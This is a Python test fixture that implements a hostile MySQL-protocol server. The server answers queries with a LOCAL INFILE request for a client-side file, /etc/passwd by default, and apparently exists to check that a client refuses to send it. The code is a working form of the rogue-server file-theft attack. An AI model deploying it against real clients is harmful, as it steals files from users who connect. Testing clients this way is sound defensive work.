"""A hostile MySQL-protocol server: it answers queries by asking for a local file.

``LOAD DATA LOCAL INFILE`` lets the server name the file the client sends, and a
rogue server can ask for one in reply to *any* query (the "rogue MySQL server"
attack). This server speaks just enough of the protocol for that: handshake
(mysql_native_password, ``CLIENT_LOCAL_FILES`` offered), OK to any
authentication, then for each query either an OK or, when the query matches
``ask_on``, a 0xFB LOCAL INFILE request for ``wanted`` (default
``/etc/passwd``). Every byte the client sends after the handshake is kept in
``received`` so a test can prove none of that file left the client.
"""

from __future__ import annotations

import contextlib
import os
import socket
import struct
import threading

# CLIENT_LONG_PASSWORD | FOUND_ROWS | LONG_FLAG | CONNECT_WITH_DB | LOCAL_FILES | PROTOCOL_41
# | TRANSACTIONS | SECURE_CONNECTION | MULTI_RESULTS | PLUGIN_AUTH
CAPABILITIES = 0x1 | 0x2 | 0x4 | 0x8 | 0x80 | 0x200 | 0x2000 | 0x8000 | 0x20000 | 0x80000


# Statements PyMySQL itself sends on connect and reads as a bare OK packet.
_PLAIN = (b"SET AUTOCOMMIT", b"SET NAMES")


def _packet(seq: int, payload: bytes) -> bytes:
    return struct.pack("<I", len(payload))[:3] + bytes([seq & 0xFF]) + payload


def _ok() -> bytes:
    return b"\x00\x00\x00" + struct.pack("<HH", 0x0002, 0)


def _handshake() -> bytes:
    salt = os.urandom(20).replace(b"\x00", b"\x01")
    return (
        b"\x0a"
        + b"5.5.5-10.11.0-hostile\x00"
        + struct.pack("<I", 7)
        + salt[:8]
        + b"\x00"
        + struct.pack("<H", CAPABILITIES & 0xFFFF)
        + b"\x2d"  # utf8mb4
        + struct.pack("<H", 0x0002)
        + struct.pack("<H", CAPABILITIES >> 16)
        + bytes([21])
        + b"\x00" * 10
        + salt[8:]
        + b"\x00"
        + b"mysql_native_password\x00"
    )


class HostileServer:
    """Listens on 127.0.0.1:<free port>; one thread per client connection."""

    def __init__(self, wanted: bytes = b"/etc/passwd", ask_on: bytes = b"") -> None:
        self.wanted = wanted
        self.ask_on = ask_on  # b"" asks in reply to every query
        self.port = 0
        self.queries: list[bytes] = []
        self.received: list[bytes] = []  # file packets the client sent after each request
        self.requests = 0
        self._sock: socket.socket | None = None

    def __enter__(self) -> HostileServer:
        sock = socket.socket()
        sock.bind(("127.0.0.1", 0))
        sock.listen(4)
        self.port = sock.getsockname()[1]
        self._sock = sock
        threading.Thread(target=self._serve, args=(sock,), daemon=True).start()
        return self

    def __exit__(self, *exc: object) -> None:
        if self._sock:
            self._sock.close()

    def _serve(self, sock: socket.socket) -> None:
        while True:
            try:
                conn, _ = sock.accept()
            except OSError:
                return
            threading.Thread(target=self._session, args=(conn,), daemon=True).start()

    def _session(self, conn: socket.socket) -> None:
        with contextlib.suppress(OSError, ConnectionError), conn:
            conn.settimeout(10)
            conn.sendall(_packet(0, _handshake()))
            seq, _ = _read(conn)  # handshake response: any credentials will do
            conn.sendall(_packet(seq + 1, _ok()))
            while True:
                seq, payload = _read(conn)
                if not payload or payload[0] == 0x01:  # COM_QUIT
                    return
                if payload[0] != 0x03:  # anything but COM_QUERY: just OK
                    conn.sendall(_packet(seq + 1, _ok()))
                    continue
                self.queries.append(payload[1:])
                if self.ask_on not in payload[1:] or payload[1:].upper().startswith(_PLAIN):
                    conn.sendall(_packet(seq + 1, _ok()))
                    continue
                self.requests += 1
                conn.sendall(_packet(seq + 1, b"\xfb" + self.wanted))
                seq += 1
                while True:  # the client sends the file, then an empty packet
                    seq, data = _read(conn)
                    if not data:
                        break
                    self.received.append(data)
                conn.sendall(_packet(seq + 1, _ok()))


def _read(conn: socket.socket) -> tuple[int, bytes]:
    header = _exactly(conn, 4)
    size = int.from_bytes(header[:3], "little")
    return header[3], _exactly(conn, size)


def _exactly(conn: socket.socket, n: int) -> bytes:
    out = b""
    while len(out) < n:
        chunk = conn.recv(n - len(out))
        if not chunk:
            raise ConnectionError("client went away")
        out += chunk
    return out
